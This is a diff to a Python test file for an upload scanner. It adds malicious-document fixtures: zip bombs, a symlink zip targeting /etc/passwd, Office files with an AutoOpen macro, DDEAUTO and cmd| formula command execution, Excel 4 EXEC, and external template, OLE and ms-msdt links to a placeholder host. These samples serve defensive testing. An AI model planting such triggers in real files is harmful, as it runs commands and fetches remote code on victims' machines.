@@ -195,6 +195,64 @@ XFA = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event
        b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>')  # fmt: skip
 
 
+# ── archives bounded before they are inflated, and Office files that run or fetch on opening ─────────────────────
+def _zip_same(count: int, size: int) -> bytes:
+    """`count` members of `size` bytes of b"b", each deflated once and written by hand (fast to build)."""
+    plain = b"b" * size
+    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
+    raw = engine.compress(plain) + engine.flush()
+    crc, out, directory = zlib.crc32(plain), bytearray(), bytearray()
+    for index in range(count):
+        name = b"f%04d.txt" % index
+        directory += b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 0, crc, len(raw), size, len(name),
+                                                  0, 0, 0, 0, 0, len(out)) + name  # fmt: skip
+        out += b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, crc, len(raw), size, len(name), 0) + name + raw
+    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(out), 0)
+    return bytes(out + directory + end)
+
+
+def _symlink_zip() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        info = zipfile.ZipInfo("link.txt")
+        info.create_system, info.external_attr = 3, 0o120777 << 16
+        archive.writestr(info, "/etc/passwd")
+    return buffer.getvalue()
+
+
+def _rezip(data: bytes, add: dict[str, bytes] | None = None, change: dict | None = None) -> bytes:
+    """An Office file with parts added or changed (`change`: part name → function of its bytes)."""
+    with zipfile.ZipFile(io.BytesIO(data)) as source:
+        members = {n: source.read(n) for n in source.namelist()}
+    for name, function in (change or {}).items():
+        members[name] = function(members[name])
+    return _zip({**members, **(add or {})})
+
+
+REAL_DOCX = (LEGIT_DIR / "总结报告.docx").read_bytes()
+REAL_XLSX = (LEGIT_DIR / "自查评分表.xlsx").read_bytes()
+VBA_BLOB = OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
+VBA_BLOB += b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nShell "calc"\r\nEnd Sub'
+RELS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+        'Target="{target}" TargetMode="External"/></Relationships>')  # fmt: skip
+
+
+def _rels(kind: str, target: str) -> bytes:
+    return RELS.format(kind=kind, target=target).encode()
+
+
+def _in_body(xml: str):  # noqa: ANN202
+    return lambda d: d.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)
+
+
+def _in_sheet(xml: str):  # noqa: ANN202
+    return lambda d: d.replace(b"</sheetData>", xml.encode() + b"</sheetData>", 1)
+
+
+SHEET = "xl/worksheets/sheet1.xml"
+
+
 def _png() -> bytes:
     return (LEGIT_DIR / "现场照片.png").read_bytes()
 
@@ -267,6 +325,39 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
         ("示意图.gif", (LEGIT_DIR / "示意图.gif").read_bytes() + ELF),
         ("视频.mp4", b"\0\0\0\x20ftypisom" + b"\0" * 100 + PE),
         ("说明.txt", "乡镇统计站自查说明\n".encode() + _zip({"a.txt": b"x"})),
+    ],
+    "archive bound before inflating": [
+        ("材料.zip", _zip_same(100, 200_000)), ("材料.zip", _zip_same(1500, 200_000)),
+        ("材料.zip", _zip({"a.zip": _zip_same(40, 200_000), "b.zip": _zip_same(40, 200_000)})),
+        ("材料.zip", _symlink_zip()), ("材料.zip", _zip({"x.exe:.txt": b"x"})),
+        ("材料.zip", _zip({"readme.txt": "乡镇说明".encode()}).replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00", 1)),
+    ],
+    "office file that runs or fetches": [
+        ("评分表.xlsx", _rezip(REAL_XLSX, {"xl/macrosheets/sheet1.xml": b'<xm:macrosheet xmlns:xm="x"><sheetData><row r="1">'
+                                          b'<c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'})),  # fmt: skip
+        ("评分表.xlsx", _rezip(REAL_XLSX, {"xl/intlMacrosheets/sheet1.xml": b"<x/>"})),
+        ("总结报告.docx", _rezip(REAL_DOCX, {"word/media/image1.png": VBA_BLOB})),
+        ("总结报告.docx", _rezip(REAL_DOCX, {"word/stuff.dat": VBA_BLOB})),
+        ("总结报告.docx", _rezip(REAL_DOCX, change={"word/document.xml": _in_body(
+            '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"/></w:p>')})),
+        ("总结报告.docx", _rezip(REAL_DOCX, change={"word/document.xml": _in_body(
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
+            '<w:r><w:instrText>EAUTO "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc"</w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')})),  # fmt: skip
+        ("评分表.xlsx", _rezip(REAL_XLSX, change={SHEET: _in_sheet("<row r=\"90\"><c r=\"A90\"><f>cmd|' /C calc'!A0</f></c></row>")})),
+        ("评分表.et", _rezip(REAL_XLSX, change={SHEET: _in_sheet("<row r=\"90\"><c r=\"A90\"><f>MSEXCEL|&apos;\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc&apos;!&apos;&apos;</f></c></row>")})),
+        ("评分表.xlsx", _rezip(REAL_XLSX, change={SHEET: _in_sheet('<row r="90"><c r="A90"><f>WEBSERVICE("http://10.0.0.1/x")</f></c></row>')})),
+        ("评分表.xlsx", _rezip(REAL_XLSX, {"xl/externalLinks/externalLink1.xml":
+            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
+            b'ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'})),  # fmt: skip
+        ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/settings.xml.rels": _rels("attachedTemplate", "http://10.0.0.1/t.dotm")})),
+        ("总结报告.docx", _rezip(REAL_DOCX, change={"word/_rels/document.xml.rels": lambda d: d.replace(b"</Relationships>",
+            b'<Relationship Id="rId996" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
+            b'Target="http://10.0.0.1/index.html!" TargetMode="External"/></Relationships>')})),  # fmt: skip
+        ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/footer9.xml.rels": _rels("image", "file://10.0.0.1/share/x.png")})),
+        ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/webSettings.xml.rels": _rels("frame", "\\\\10.0.0.1\\x")})),
+        ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/a.xml.rels": _rels("subDocument", "http://10.0.0.1/s.docx")})),
+        ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/b.xml.rels": _rels("hyperlink", "ms-msdt:/id PCWDiagnostic")})),
     ],
     "pdf with encoded streams": [
         ("评分表.pdf", _pdf_xref_stream(b"/ASCIIHexDecode", _ahx(JS_OBJECT))),
@@ -343,6 +434,14 @@ def _legit() -> list[tuple[str, bytes]]:
         ("材料.zip", _deep(3)),  # three archives deep is still inspected
         ("总结报告.docx", _docx_with({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes(),
                                       "word/media/image1.png": _png()})),  # fmt: skip
+        ("总结报告.docx", _rezip(REAL_DOCX, change={"word/document.xml": _in_body(
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "http://tjj.example.cn/dde" </w:instrText>'
+            '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE 说明</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
+            '</w:r></w:p><w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>')},
+            add={"word/_rels/footer1.xml.rels": _rels("hyperlink", "http://tjj.example.cn/")})),  # fmt: skip
+        ("评分表.xlsx", _rezip(REAL_XLSX, change={SHEET: _in_sheet(
+            '<row r="90"><c r="A90"><f>SUM(B2:B3)</f></c><c r="B90"><f>IF(A90&gt;60,"达标","未达标")</f></c>'
+            '<c r="C90"><f>HYPERLINK("http://tjj.example.cn","统计局")</f></c></row>')})),  # fmt: skip
         ("得分.csv", "单位,得分,变化,备注\n乐平镇,91,-3,\n皋落镇,85,+2.5,良好\n东冶头镇,77,-0.5,-\n".encode("gb18030")),
         ("说明.txt", "自查说明：统计台账已建立；from 2024 起按月 import 数据（只是文字）。\nset 好了，if 需要再补。".encode()),
     ]
@@ -380,6 +479,16 @@ def test_every_real_document_is_accepted(tmp_path):
                if (reason := _checked(tmp_path, name, data, i)) is not None}  # fmt: skip
     assert refused == {}
     assert len(_legit()) >= 25
+
+
+def test_a_zip_bomb_of_small_members_is_refused_from_its_directory_at_once(tmp_path):
+    """1,500 members of 200 KB each (459 KB uploaded, 300 MB declared) took 181 s to refuse, and 100 of them (30 KB)
+    were accepted after 55 s: the central directory alone now refuses both, before anything is inflated."""
+    for count, words in ((1500, "256 MB"), (100, "压缩比异常")):
+        started = time.perf_counter()
+        reason = _checked(tmp_path, "材料.zip", _zip_same(count, 200_000), count)
+        assert reason is not None and words in reason, reason
+        assert time.perf_counter() - started < 1.0
 
 
 def test_the_whole_corpus_is_checked_in_flat_memory(tmp_path):
